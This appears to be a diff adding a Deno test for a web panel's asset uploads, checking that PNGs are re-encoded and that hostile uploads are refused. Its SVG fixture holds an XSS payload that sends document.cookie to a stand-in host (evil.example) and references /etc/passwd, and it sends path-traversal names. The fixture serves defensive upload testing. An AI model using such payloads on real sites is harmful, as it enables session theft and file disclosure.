@@ -1,0 +1,152 @@
+/// <reference lib="dom" />
+/**
+ * Asset uploads, friendly and hostile: a PNG uploaded in the browser is stored
+ * re-encoded under uploads/, shown as a thumbnail and loaded by the
+ * compositor's assets; a malicious SVG (named .png, sent as image/png), a text
+ * file named .png, an oversized upload, a path name (`../../etc/passwd`), a
+ * viewer's upload and one without the CSRF token are refused, each with its
+ * message, and nothing is written outside the folder.
+ */
+import assert from "node:assert/strict";
+import { createCanvas } from "@napi-rs/canvas";
+import type { Compositor } from "../../plugins/compositor/mod.ts";
+import { MAX_ASSET_BYTES, sniff } from "../assets.ts";
+import {
+  ARTIFACTS,
+  browserSignIn,
+  chromiumReady,
+  launchChromium,
+  panelEngine,
+} from "./panel_kit.ts";
+
+const ready = await chromiumReady();
+const SVG = `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">
+<script>fetch('https://evil.example/'+document.cookie)</script><image href="file:///etc/passwd"/></svg>`;
+
+Deno.test("assets: the type comes from the bytes", () => {
+  const png = createCanvas(2, 2).toBuffer("image/png");
+  assert.equal(sniff(new Uint8Array(png)), "png");
+  assert.equal(sniff(new Uint8Array(createCanvas(2, 2).toBuffer("image/jpeg"))), "jpeg");
+  assert.equal(sniff(new TextEncoder().encode(SVG)), "svg");
+  assert.equal(sniff(new TextEncoder().encode("\uFEFF  <svg>")), "svg");
+  assert.equal(sniff(new TextEncoder().encode("GIF89a")), null);
+  assert.equal(sniff(new Uint8Array(0)), null);
+});
+
+Deno.test({
+  name: "assets: a PNG uploaded in the panel is re-encoded and shown; hostile uploads refused",
+  ignore: !ready,
+  sanitizeResources: false,
+  sanitizeOps: false,
+  async fn() {
+    const dir = await Deno.makeTempDir({ prefix: "sothebais-assets-" });
+    const engine = await panelEngine({
+      plugins: {
+        "funds-book": {},
+        auction: { watermark: "clock" },
+        compositor: { assetsDir: dir },
+      },
+    });
+    const browser = await launchChromium();
+    Deno.mkdirSync(ARTIFACTS, { recursive: true });
+    try {
+      const ada = await engine.enrolled("ada", "admin");
+      const vic = await engine.enrolled("vic", "viewer");
+      const page = await browser.newPage({ viewport: { width: 1280, height: 900 } });
+      await browserSignIn(page, engine.url, "ada", ada.secret, "/admin/assets");
+      await page.waitForSelector("#asset-upload");
+      const art = createCanvas(64, 48);
+      const ctx = art.getContext("2d");
+      ctx.fillStyle = "#c33";
+      ctx.fillRect(0, 0, 64, 48);
+      const file = `${dir}/../genesis-art.png`;
+      await Deno.writeFile(file, art.toBuffer("image/png"));
+      await page.setInputFiles("#asset-file", file);
+      await page.click("#asset-send");
+      await page.waitForSelector("#asset-notice");
+      assert.equal(
+        await page.textContent("#asset-notice"),
+        "Stored uploads/genesis-art.png (64×48).",
+      );
+      await page.waitForFunction(() =>
+        (document.querySelector('[data-path="uploads/genesis-art.png"] img') as HTMLImageElement)
+          ?.naturalWidth === 64
+      );
+      const stored = await Deno.readFile(`${dir}/uploads/genesis-art.png`);
+      assert.equal(sniff(stored), "png");
+      const compositor = engine.service<Compositor>("compositor");
+      assert.equal(compositor.widgets.assets.get("uploads/genesis-art.png")?.image.width, 64);
+      await page.screenshot({ path: `${ARTIFACTS}assets.png`, fullPage: true });
+
+      // Hostile uploads over HTTP, each refused with its message.
+      // Another admin over HTTP (ada's code of this step is used already).
+      const ana = await engine.enrolled("ana", "admin");
+      const s = await engine.signIn("ana", ana.secret);
+      const v = await engine.signIn("vic", vic.secret);
+      const send = (
+        name: string,
+        body: Uint8Array,
+        who = s,
+        headers: Record<string, string> = {},
+      ) =>
+        fetch(`${engine.url}/admin/api/assets?name=${encodeURIComponent(name)}`, {
+          method: "POST",
+          headers: {
+            "content-type": "image/png",
+            origin: engine.url,
+            cookie: who.cookie,
+            "x-csrf-token": who.csrf,
+            ...headers,
+          },
+          body: body as Uint8Array<ArrayBuffer>,
+        });
+      const png = new Uint8Array(art.toBuffer("image/png"));
+      const cases: Array<[string, Promise<Response>, number, RegExp]> = [
+        ["malicious SVG", send("logo.png", new TextEncoder().encode(SVG)), 400, /SVG is refused/],
+        [
+          "text named .png",
+          send("notes.png", new TextEncoder().encode("hello")),
+          400,
+          /not a PNG, JPEG or WebP/,
+        ],
+        ["oversized", send("big", new Uint8Array(MAX_ASSET_BYTES + 1)), 413, /too big/],
+        ["path traversal", send("../../etc/passwd", png), 400, /^name: /],
+        ["a folder in the name", send("uploads/x", png), 400, /^name: /],
+        ["a viewer", send("vic-art", png, v), 403, /admin role/],
+        ["no CSRF token", send("nocsrf", png, s, { "x-csrf-token": "" }), 403, /CSRF/],
+        [
+          "another origin",
+          send("evil", png, s, { origin: "https://evil.example" }),
+          403,
+          /another origin/,
+        ],
+        ["truncated PNG", send("broken", png.subarray(0, 40)), 400, /does not decode/],
+      ];
+      for (const [what, response, status, message] of cases) {
+        const r = await response;
+        const body = await r.json();
+        assert.equal(r.status, status, what);
+        assert.match(body.message, message, what);
+      }
+      const files = [...Deno.readDirSync(`${dir}/uploads`)].map((e) => e.name).sort();
+      assert.deepEqual(files, ["genesis-art.png"]);
+      assert.ok(![...Deno.readDirSync(`${dir}/..`)].some((e) => e.name === "passwd.png"));
+      // The preview route takes only an upload's file name.
+      for (const path of ["..%2F..%2Fetc%2Fpasswd", "genesis-art.svg", "x"]) {
+        const r = await fetch(`${engine.url}/admin/api/assets/uploads/${path}`, {
+          headers: { cookie: s.cookie },
+        });
+        assert.equal(r.status, 404, path);
+        await r.body?.cancel();
+      }
+      const outsider = await fetch(`${engine.url}/admin/api/assets/uploads/genesis-art.png`);
+      assert.equal(outsider.status, 401);
+      await outsider.body?.cancel();
+      await Deno.remove(file);
+    } finally {
+      await browser.close();
+      await engine.stop();
+      await Deno.remove(dir, { recursive: true });
+    }
+  },
+});
